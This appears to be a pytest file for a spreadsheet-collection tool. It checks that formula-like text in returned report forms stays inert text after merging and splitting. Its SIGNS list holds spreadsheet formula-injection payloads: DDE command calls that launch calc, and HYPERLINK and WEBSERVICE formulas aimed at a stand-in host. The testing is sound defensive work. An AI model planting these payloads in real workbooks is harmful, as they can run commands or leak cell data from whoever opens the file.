"""Text that looks like a formula goes out as text: in every sheet of every workbook that we write."""

import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl

from tests.hazards.counties import County
from tests.hazards.forms import form_of
from xlminshi import api

SIGNS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.invalid/"&A1,"点我")',
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    '=WEBSERVICE("http://example.invalid")',
    "=1+1",
    "{=1+1}",
    "\t=1+1",
    "|cmd",
    "%0A=1+1",
)
HEADERS = ("进展情况", "存在问题", "下一步措施", "责任人", "联系电话", "备注", "形象进度")


def hostile_return(county: County, unit: str, folder: Path, text: str) -> Path:
    form = form_of(county.returns[unit].path)
    for line in form.lines():
        for header in HEADERS:
            form.set(line.row, header, text)
    form.put(*form.head_cell("填报人"), text)
    form.put(*form.head_cell("审核人"), text)
    form.set(form.lines()[0].row, "上期累计", text)
    extra = form.last_row() + 1
    form.put(extra, form.column("实事名称"), text)
    form.put(extra, form.column("累计完成"), Decimal(5))
    path = folder / f"{unit}.xlsx"
    path.write_bytes(form.content())
    return path


def test_texts_like_formulas_stay_text_in_all_that_is_written(
    counties: tuple[County, County], tmp_path: Path
) -> None:
    county = counties[1]
    own = formulas(county.book)
    pairs = list(zip(SIGNS, county.units() * 2, strict=False))
    for number, some in enumerate((pairs[:6], pairs[6:])):
        folder = tmp_path / str(number)
        folder.mkdir()
        paths = tuple(hostile_return(county, unit, folder, text) for text, unit in some)
        api.collect(county.book, paths, folder / "汇总.xlsx")
        assert [one for one in formulas(folder / "汇总.xlsx") - own if not is_ours(one)] == []
        for text, unit in some:
            assert text.strip() in texts(folder / "汇总.xlsx", unit)
        with zipfile.ZipFile(folder / "汇总.xlsx") as package:
            assert not [name for name in package.namelist() if "externalLink" in name]
            rels = b"".join(package.read(name) for name in package.namelist() if name.endswith(".rels"))
        assert b'TargetMode="External"' not in rels


def texts(path: Path, sheet: str) -> set[str]:
    """The texts that stand on a sheet as texts."""
    rows = openpyxl.load_workbook(path)[sheet].iter_rows()
    return {str(cell.value).strip() for row in rows for cell in row if cell.data_type != "f"}


def formulas(path: Path) -> set[str]:
    """Every formula of a workbook."""
    workbook = openpyxl.load_workbook(path)
    return {
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


def is_ours(formula: str) -> bool:
    """Whether a formula is made of what our own sheets calculate with."""
    return (
        not any(word in formula for word in ("cmd", "HYPERLINK", "WEBSERVICE", "example"))
        and formula != "=1+1"
    )


def test_names_like_formulas_in_the_list_stay_text_in_the_forms(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    workbook.active.append(["实事名称", "牵头单位", "指标名称", "计量单位", "年度目标"])
    for number, text in enumerate(SIGNS):
        row = number + 2
        for column, value in enumerate((f"{text} 甲", f"局{number}", text, "个", 10), start=1):
            cell = workbook.active.cell(row, column)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"
    workbook.save(tmp_path / "清单.xlsx")
    api.new_workbook(tmp_path / "清单.xlsx", tmp_path / "簿.xlsx")
    api.split(tmp_path / "簿.xlsx", tmp_path / "下发")
    for path in (tmp_path / "簿.xlsx", *(tmp_path / "下发").iterdir()):
        assert [one for one in formulas(path) if not is_ours(one)] == []
